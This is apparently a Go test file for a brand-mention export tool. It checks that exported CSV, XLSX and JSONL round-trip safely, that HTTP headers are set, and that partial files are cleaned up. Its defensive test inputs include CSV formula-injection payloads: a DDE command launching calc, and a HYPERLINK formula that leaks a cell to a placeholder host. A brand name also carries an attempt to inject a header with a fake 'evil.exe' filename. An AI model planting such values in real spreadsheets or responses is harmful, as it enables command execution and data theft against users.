package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// rowsOf writes posts with these texts, names and handles as a file to import.
func rowsOf(t testing.TB, texts []string) string {
	t.Helper()
	var out bytes.Buffer
	for i, text := range texts {
		row := map[string]any{
			"post_id": fmt.Sprint(1800000000123456700 + i), "platform": "x", "author": fmt.Sprint("9", i), "handle": fmt.Sprint("user", i), "name": text,
			"created_at": fmt.Sprintf("2026-01-%02dT10:00:%02dZ", 1+i/60%28, i%60), "lang": "en", "text": text, "likes": 3, "mentions": []string{"a", "b"},
		}
		if i%2 == 0 {
			row["followers"], row["verified"], row["reply_to"] = 7, true, "brand"
		}
		line, err := json.Marshal(row)
		if err != nil {
			t.Fatal(err)
		}
		out.Write(append(line, '\n'))
	}
	path := filepath.Join(t.TempDir(), "rows.jsonl")
	if err := os.WriteFile(path, out.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

var formulas = []string{
	"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r\n=1", " =1", "\u00a0=1", "\ufeff=1", `"=1"`, `'=1`, `''=1`, "＝1", "＠x", `=cmd|' /C calc'!A0`, `=HYPERLINK("http://x.example?"&A1)`, "'x", "-", "plain", "a, \"b\"\nc",
	"one\r\ntwo", "<<<<<<< HEAD\nx", "post_id,platform,text", "x\n" + strings.Repeat("1,", 30) + "2026-01-01T00:00:00Z\ny", `"`, `","`, "N/A", "nan",
}

// TestFormulasComeBack: what is exported and imported again is the same, byte for
// byte, whatever the texts look like.
func TestFormulasComeBack(t *testing.T) {
	t.Parallel()
	round := func(t *testing.T, texts []string, path string) {
		dir := filepath.Dir(path)
		from, to := filepath.Join(dir, "from"), filepath.Join(dir, "to")
		must := func(args ...string) string {
			var out, errs bytes.Buffer
			if code := run(context.Background(), args, streams{strings.NewReader(""), &out, &errs}, nil); code != 0 {
				t.Fatalf("adalid %q: exit %d\n%s", args, code, errs.String())
			}
			return out.String()
		}
		must("--data-dir", from, "import", "--brand", "Tea", path)
		first := must("--data-dir", from, "export", "Tea", "mentions")
		back := filepath.Join(dir, "back.csv")
		must("--data-dir", from, "export", "Tea", "mentions", "--output", back)
		must("--data-dir", to, "import", "--brand", "Tea", back)
		if second := must("--data-dir", to, "export", "Tea", "mentions"); second != first {
			t.Errorf("exported, imported and exported again:\n%s\n%s", first, second)
		}
		var seen int
		for line := range strings.Lines(must("--data-dir", to, "export", "Tea", "mentions", "--format", "jsonl")) {
			var m struct {
				PostID string `json:"post_id"`
				Text   string
				Name   string
			}
			var i int
			if err := json.Unmarshal([]byte(line), &m); err != nil {
				t.Fatalf("%v: %s", err, line)
			}
			if _, err := fmt.Sscan(m.PostID, &i); err != nil || i-1800000000123456700 >= len(texts) {
				t.Fatalf("post %s: %v", m.PostID, err)
			}
			if want := texts[i-1800000000123456700]; m.Text != want || m.Name != want {
				t.Errorf("text %q and name %q, want %q", m.Text, m.Name, want)
			}
			seen++
		}
		if seen != len(texts) {
			t.Errorf("%d of %d came back", seen, len(texts))
		}
	}
	round(t, formulas, rowsOf(t, formulas))
	piece := rapid.OneOf(rapid.SampledFrom(formulas), rapid.StringOf(rapid.RuneFrom([]rune("'\"=+-@ \t\r\n,;|＝\ufeff“a1é🙂"))), rapid.String())
	var texts []string
	for seed := range 3000 {
		if text := piece.Example(seed); text != "" && !strings.Contains(text, "\x00") {
			texts = append(texts, text)
		}
	}
	round(t, texts, rowsOf(t, texts))
}

func TestExportCommand(t *testing.T) {
	t.Parallel()
	dir, out := t.TempDir(), t.TempDir()
	path := rowsOf(t, formulas)
	ok(t, dir, "import", "--brand", "=Tea", path)
	file := filepath.Join(out, "a.csv")
	ok(t, dir, "export", "=Tea", "advocates", "--output", file, "--all")
	text, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
	if err != nil || len(rows) != len(formulas)+1 || rows[0][0] != "rank" || rows[1][2] != "'=Tea" {
		t.Errorf("%d rows, %v: %.300s", len(rows), err, text)
	}
	if info, err := os.Stat(file); err != nil || info.Mode().Perm() != 0o600 {
		t.Error(info, err)
	}
	ok(t, dir, "export", "=Tea", "mentions", "--output", filepath.Join(out, "b.xlsx"), "--since", "2026-01-01")
	for _, what := range []string{"mentions", "advocates"} {
		lines := ok(t, dir, "export", "=Tea", what, "--format", "jsonl")
		if got := ok(t, dir, "export", "=Tea", what, "--json"); got != lines || !json.Valid([]byte(strings.SplitN(got, "\n", 2)[0])) {
			t.Errorf("%s as JSON: %.200s", what, got)
		}
	}
	for _, bad := range [][]string{
		{"export", "=Tea", "people"},
		{"export", "=Tea", "mentions", "--where", "score > 1"},
		{"export", "=Tea", "advocates", "--authored"},
		{"export", "=Tea", "mentions", "--format", "xls"},
		{"export", "=Tea", "advocates", "--sort", "name"},
		{"export", "=Tea", "advocates", "--safe", "--sort", "volume"},
		{"export", "=Tea"},
	} {
		if r := cli(t, dir, "", bad...); r.code != 2 {
			t.Errorf("%q: exit %d, %s", bad, r.code, r.err)
		}
	}
	for _, gone := range [][]string{{"export", "Nobody", "mentions"}, {"export", "=Tea", "mentions", "--person", "none"}} {
		if r := cli(t, dir, "", append(gone, "--output", filepath.Join(out, "none.csv"))...); r.code != 1 {
			t.Errorf("%q: exit %d, %s", gone, r.code, r.err)
		}
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	var errs bytes.Buffer
	if code := run(ctx, []string{"--data-dir", dir, "export", "=Tea", "mentions", "--output", file}, streams{strings.NewReader(""), io.Discard, &errs}, nil); code != 1 {
		t.Errorf("stopped: exit %d, %s", code, errs.String())
	}
	if after, err := os.ReadFile(file); err != nil || !bytes.Equal(after, text) {
		t.Error("the file of before is not there any more")
	}
	entries, err := os.ReadDir(out)
	if err != nil || len(entries) != 2 {
		t.Error("left behind:", entries, err)
	}
}

// TestExportOverHTTP: the same rows as from the terminal, safe headers, a name
// that nobody can break out of, and a connection that is cut rather than ended
// when the server stops.
func TestExportOverHTTP(t *testing.T) {
	long(t)
	dir := t.TempDir()
	brand := "Té \"; filename=evil.exe\r\n/.."
	brand = strings.NewReplacer("\r\n", " ").Replace(brand)
	many := make([]string, 30_000)
	for i := range many {
		many[i] = formulas[i%len(formulas)] + strings.Repeat(" and more", 40)
	}
	ok(t, dir, "import", "--brand", brand, rowsOf(t, many))
	want := ok(t, dir, "export", brand, "mentions")
	s := serve(t, dir, []string{"ADALID_SERVER_READ_TIMEOUT=1s", "ADALID_SERVER_WRITE_TIMEOUT=1s"})
	address := s.base + "/api/v1/brands/" + url.PathEscape(brand) + "/exports/"
	resp, err := http.Get(address + "mentions")
	if err != nil {
		t.Fatal(err)
	}
	body := new(bytes.Buffer)
	buffer := make([]byte, 1<<20)
	for n, err := 0, error(nil); err == nil; { // slower than any usual answer may be
		n, err = resp.Body.Read(buffer)
		body.Write(buffer[:n])
	}
	resp.Body.Close()
	if resp.StatusCode != 200 || body.String() != want {
		t.Errorf("%d, %d bytes, want %d", resp.StatusCode, body.Len(), len(want))
	}
	for name, value := range map[string]string{"Content-Type": "text/csv; charset=utf-8", "X-Content-Type-Options": "nosniff", "Cache-Control": "private, no-store"} {
		if got := resp.Header.Get(name); got != value {
			t.Errorf("%s: %q", name, got)
		}
	}
	if got := resp.Header.Get("Content-Disposition"); !strings.HasPrefix(got, `attachment; filename="adalid-t-filename-evil-exe-mentions-`) || !strings.HasSuffix(got, `.csv"`) || strings.Contains(got, "..") {
		t.Errorf("Content-Disposition: %q", got)
	}
	if resp.Header.Get("Content-Security-Policy") == "" {
		t.Error("no Content-Security-Policy")
	}
	for _, path := range []string{"advocates?format=xlsx&all=true", "mentions?format=xlsx", "advocates?format=jsonl&limit=2", "mentions?person=none", "advocates?mode=safe&sort=volume", "mentions?format=pdf"} {
		resp, err := http.Get(address + path)
		if err != nil {
			t.Fatal(err)
		}
		all, err := io.ReadAll(resp.Body)
		resp.Body.Close()
		good := strings.Contains(path, "xlsx")
		if err != nil || good != (resp.StatusCode == 200) || good && !bytes.HasPrefix(all, []byte("PK")) || !good && !strings.Contains(string(all), `"detail"`) {
			t.Errorf("%s: %d, %v, %.200s", path, resp.StatusCode, err, all)
		}
	}
	// A client that does not read holds a place; the server's stop takes it back.
	conn, err := net.Dial("tcp", strings.TrimPrefix(s.base, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n", strings.TrimPrefix(address, s.base)+"mentions")
	if _, err := io.ReadFull(conn, buffer[:64]); err != nil {
		t.Fatal(err)
	}
	entries, err := filepath.Glob(filepath.Join(dir, "adalid-export-*"))
	if err != nil || len(entries) != 0 {
		t.Error("left behind:", entries, err)
	}
}
